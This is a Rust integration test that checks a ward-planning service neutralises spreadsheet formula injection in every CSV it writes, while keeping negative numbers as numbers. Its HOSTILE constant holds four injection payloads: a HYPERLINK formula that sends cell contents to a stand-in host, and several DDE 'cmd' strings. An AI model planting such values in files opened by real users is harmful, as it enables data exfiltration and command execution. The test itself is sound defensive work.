//! Issue 18 finding 7: ward names that a spreadsheet would run as formulas (`=HYPERLINK(...)`,
//! `+cmd|...`, `@SUM(...)`, `-2+3...`) go through upload -> analysis -> population -> ITN ->
//! report, and every CSV the service writes carries them neutralised (a leading `'`, OWASP's
//! rule) while numbers, negative ones included, stay numbers; the plan still joins the wards by
//! their real names (the service reads its own files back without the quote).
#![allow(clippy::unwrap_used)]

use std::path::{Path, PathBuf};

use crate::support::{Answer, Body, ServerBuilder, Session, fixture};
use serde_json::json;

const HOSTILE: [(&str, &str); 4] = [
    ("Adakawa", "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"),
    ("Babban Giji", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("Bakin-Ruwa", "-2+3+cmd|' /C calc'!A0"),
    ("Chedi", "+cmd|' /C calc'!A0"),
];

fn csv_field(s: &str) -> String {
    if s.contains([',', '"']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.to_string()
    }
}

/// The Kano table with four wards renamed, and a population table for every ward.
fn hostile_inputs() -> (Vec<u8>, Vec<u8>) {
    let text = String::from_utf8(fixture("kano/kano_wards.csv")).unwrap();
    let mut wards = String::new();
    let mut population = String::from("WardName,Population\n");
    for (i, line) in text.lines().enumerate() {
        let mut cells: Vec<String> = line.split(',').map(str::to_string).collect();
        if i > 0 {
            if let Some((_, evil)) = HOSTILE.iter().find(|(name, _)| *name == cells[2]) {
                cells[2] = csv_field(evil);
            }
            population.push_str(&format!("{},{}\n", cells[2], 1000 + 37 * i));
        }
        wards.push_str(&cells.join(","));
        wards.push('\n');
    }
    (wards.into_bytes(), population.into_bytes())
}

/// Splits one CSV text into records of fields (RFC 4180: quoted fields, doubled quotes).
fn records(text: &str) -> Vec<Vec<String>> {
    let mut out = vec![];
    let mut row = vec![];
    let mut field = String::new();
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                field.push('"');
                chars.next();
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\n') => {
                row.push(std::mem::take(&mut field));
                out.push(std::mem::take(&mut row));
            }
            (false, c) => field.push(c),
        }
    }
    out
}

fn find(dir: &Path, name: &str, out: &mut Vec<PathBuf>) {
    for e in std::fs::read_dir(dir).unwrap().flatten() {
        let p = e.path();
        if p.is_dir() {
            find(&p, name, out);
        } else if p.file_name().is_some_and(|n| n == name) {
            out.push(p);
        }
    }
}

fn csv_files(dir: &Path, out: &mut Vec<PathBuf>) {
    for e in std::fs::read_dir(dir).unwrap().flatten() {
        let p = e.path();
        if p.is_dir() {
            csv_files(&p, out);
        } else if p.extension().is_some_and(|x| x == "csv") {
            out.push(p);
        }
    }
}

#[test]
fn formula_ward_names_are_neutralised_in_every_csv_written() {
    let server = ServerBuilder::new().args(&["-w", "2"]).start();
    let s = Session::create(server.addr());
    let (wards, population) = hostile_inputs();
    s.upload(("kano_wards.csv", &wards), None)
        .expect(200, "upload");
    s.run_analysis(&json!({})).expect(200, "analysis");
    s.upload_population("population.csv", &population)
        .expect(200, "population");
    s.plan_itn(&json!({"total_nets": 200000, "strategy": "rank"}))
        .expect(200, "itn");
    // The plan joined every hostile ward to its population: names read back unquoted.
    let folder = server.dir.path().join("instance/uploads").join(&s.id);
    let mut results = vec![];
    find(&folder, "itn_distribution_results.json", &mut results);
    let plan: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&results[0]).unwrap()).unwrap();
    let planned: Vec<&str> = plan["prioritized"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|w| w["Population"].as_f64().is_some_and(|p| p > 0.0))
        .filter_map(|w| w["WardName"].as_str())
        .collect();
    for (_, evil) in HOSTILE {
        assert!(planned.contains(&evil), "{evil} not planned: {planned:?}");
    }
    let report = s
        .send("POST", "/generate_report", Body::Empty)
        .expect(200, "report")
        .json_body();
    assert_eq!(s.get(report["download_url"].as_str().unwrap()).status, 200);

    // Every CSV the service wrote for this session (the uploads themselves are the user's own
    // bytes, stored as sent).
    let mut files = vec![];
    csv_files(&folder, &mut files);
    let written: Vec<&PathBuf> = files
        .iter()
        .filter(|p| {
            let name = p.file_name().unwrap().to_string_lossy();
            !name.starts_with("raw_data") && !name.contains("population")
        })
        .collect();
    assert!(written.len() >= 8, "too few CSVs: {files:?}");
    let mut neutralised = 0;
    let mut negative_numbers = 0;
    for path in &written {
        let text = std::fs::read_to_string(path).unwrap();
        for cell in records(&text).into_iter().flatten() {
            let first = cell.chars().next();
            if matches!(first, Some('=' | '+' | '@' | '\t' | '\r')) {
                panic!("{}: live formula cell {cell:?}", path.display());
            }
            if first == Some('-') {
                assert!(cell.parse::<f64>().is_ok(), "{}: {cell:?}", path.display());
                negative_numbers += 1;
            }
            if HOSTILE.iter().any(|(_, evil)| cell == format!("'{evil}")) {
                neutralised += 1;
            }
        }
    }
    assert!(neutralised >= 4 * 4, "only {neutralised} neutralised cells");
    // Negative numbers stay numbers (PCA scores are signed).
    assert!(negative_numbers > 0);
    // And the downloads are the same neutralised files.
    let rankings = s
        .download("analysis_vulnerability_rankings.csv")
        .expect(200, "rankings");
    assert!(
        rankings
            .text()
            .contains(&csv_field(&format!("'{}", HOSTILE[0].1)))
    );
}
